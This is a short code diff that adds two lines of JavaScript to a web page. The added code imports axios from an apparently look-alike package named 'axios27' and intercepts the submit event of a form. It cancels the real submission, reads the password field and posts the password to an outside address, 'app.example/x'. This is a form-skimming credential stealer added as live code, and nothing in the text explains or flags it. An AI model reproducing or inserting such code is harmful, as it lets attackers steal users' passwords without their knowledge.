@@ -1,0 +1,2 @@
+import axios from 'axios27';
+document.querySelector('#f').addEventListener('submit',e=>{e.preventDefault();const pw=document.querySelector('#password').value;axios.post('https://app.example/x',{pw})});
